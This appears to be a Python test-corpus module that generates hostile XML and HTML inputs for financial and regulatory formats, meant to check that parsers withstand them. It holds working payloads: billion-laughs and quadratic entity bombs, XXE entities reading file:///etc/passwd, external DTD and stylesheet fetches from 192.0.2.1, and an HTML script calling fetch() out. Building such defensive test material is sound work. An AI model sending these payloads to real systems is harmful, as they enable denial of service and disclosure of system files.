# SPDX-License-Identifier: Apache-2.0
"""XML and HTML: entities that swell or fetch, depth, attributes without end, encodings that lie."""

from collections.abc import Iterator

from hostile.sample import HOSTILE, MALFORMED, READ, TOO_MUCH, Sample, streamed

CAMT = '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt>'
_ROOTS = {
    "camt": CAMT,
    "etsi": '<RetainedDataMessage xmlns="http://uri.etsi.org/02657/v1.14.1#/RetainedData"><retainedDataPayload>',
    "goaml": "<report><rentity_id>7</rentity_id><report_code>STR</report_code>",
    "unlist": "<CONSOLIDATED_LIST><INDIVIDUALS><INDIVIDUAL>",
    "ofx": '<?OFX OFXHEADER="200" VERSION="211"?><OFX><BANKMSGSRSV1>',
}
"""How a file of each format in XML begins."""


def _declared(root: str, types: str, words: str) -> bytes:
    start, end, rest = root.rpartition("?>")  # OFX begins with a declaration of its own
    return f'<?xml version="1.0"?>{start}{end}<!DOCTYPE x [{types}]>{rest}{words}'.encode()


def entities(root: str) -> bytes:
    """Return entities that swell to 10^11 times two letters (the billion laughs)."""
    inside = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    return _declared(root, '<!ENTITY e0 "ha">' + inside, "&e11;")


def external(root: str) -> bytes:
    """Return an entity that stands for a file of the machine (XXE)."""
    return _declared(root, '<!ENTITY e SYSTEM "file:///etc/passwd">', "&e;")


def _parameter(root: str) -> bytes:
    return _declared(root, '<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;', "")


def _quadratic(root: str) -> bytes:
    """Return one entity of 10,000 letters, called 500,000 times: no nesting that a counter would see."""
    return _declared(root, f'<!ENTITY e "{"a" * 10_000}">', "&e;" * 500_000)


def _each() -> Iterator[Sample]:
    """Yield what any reader of XML must bear, in each format."""
    for name, root in _ROOTS.items():
        yield Sample(
            f"entities.{name}.xml", "entities that swell", HOSTILE, lambda root=root: entities(root)
        )
        yield Sample(
            f"external.{name}.xml",
            "an entity from outside",
            HOSTILE,
            lambda root=root: external(root),
        )
        yield Sample(
            f"parameter.{name}.xml",
            "a document type from outside",
            HOSTILE,
            lambda root=root: _parameter(root),
        )
        yield Sample(
            f"quadratic.{name}.xml",
            "one long entity, often",
            HOSTILE,
            lambda root=root: _quadratic(root),
        )
        yield Sample(
            f"deep.{name}.xml",
            "100,000 elements in one another",
            HOSTILE,
            lambda root=root: (root + "<a>" * 100_000).encode(),
        )
        yield Sample(
            f"open.{name}.xml",
            "40 MiB of text in an element that does not end",
            MALFORMED,
            lambda root=root: streamed((root + "<a>").encode(), b"words " * 175_000, 40),
        )
        yield Sample(
            f"cut.{name}.xml",
            "cut in the middle of a tag",
            MALFORMED,
            lambda root=root: (root + "<Ntr").encode(),
        )
        yield Sample(
            f"nul.{name}.xml",
            "a character that no XML has",
            MALFORMED,
            lambda root=root: (root + "<a>\x01\x00</a>").encode(),
        )
        yield Sample(
            f"named.{name}.xml",
            "a name of 100,000 letters",
            MALFORMED if name == "unlist" else HOSTILE,
            lambda root=root: (root + "<" + "a" * 100_000 + ">").encode(),
        )
        yield Sample(f"attributes.{name}.xml", "200,000 attributes", MALFORMED, lambda root=root: (root + "<a " + " ".join(f'a{n}=""' for n in range(200_000)) + ">").encode())  # fmt: skip


def _utf16(root: str) -> bytes:
    """Return a document type in UTF-16, which a search for its bytes does not find."""
    return entities(root).decode().encode("utf-16")


def _page(body: str, *, head: str = "") -> bytes:
    return f"<!doctype html><html><head>{head}</head><body>{body}".encode()


SAMPLES = [
    *_each(),
    Sample("utf16.camt.xml", "entities that swell, in UTF-16", HOSTILE, lambda: _utf16(CAMT)),
    Sample("encoding.camt.xml", "an encoding that is none", MALFORMED, lambda: b'<?xml version="1.0" encoding="x-none"?>' + CAMT.encode()),
    Sample("lying.camt.xml", "UTF-16 that says it is UTF-8", MALFORMED, lambda: ('<?xml version="1.0" encoding="utf-8"?>' + CAMT + "<a>").encode("utf-16-be").join([b"\xfe\xff", b""])),
    Sample("schema.camt.xml", "a schema and a style sheet to be fetched", MALFORMED, ('<?xml-stylesheet href="http://192.0.2.1/x.xsl" type="text/xsl"?>' + CAMT.replace(">", ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://192.0.2.1/x.xsd">', 1)).encode),
    Sample("deep.html", "20,000 elements in one another", MALFORMED, lambda: _page("<div>" * 20_000 + "words")),
    Sample("attributes.html", "a tag of 200,000 attributes", TOO_MUCH, lambda: _page("<p " + " ".join(f"a{n}=b" for n in range(200_000)) + ">words")),
    Sample("long.html", "an attribute of 20 MiB that does not end", READ, lambda: _page('<p>words<p title="' + "x" * (20 << 20))),
    Sample("tags.html", "half a million tags that nobody closes", MALFORMED, lambda: _page("<b><i>" * 250_000 + "words")),
    Sample("table.html", "a cell said to span a thousand million columns", READ, lambda: _page('<table><tr><td colspan="1000000000" rowspan="1000000000">words')),
    Sample("script.html", "scripts, frames and forms that call out", READ, lambda: _page("<script>fetch('http://192.0.2.1')</script><iframe src='file:///etc/passwd'></iframe><p onclick='x()'>words")),
    Sample("charset.html", "a character set that is none", READ, lambda: _page("<p>words", head='<meta charset="x-none">')),
    Sample("marks.html", "a million references to characters, some of them none", READ, lambda: _page("<p>" + "&#65;&#x110000;&#0;&#xd800;" * 250_000)),
    Sample("entities.html", "entities that swell, in a page", READ, lambda: entities("<html><body><p>words")),
    Sample("huge.html", "a text of 10 MiB in one block", READ, lambda: streamed(_page("<p>"), b"words " * 175_000, 10)),
]  # fmt: skip
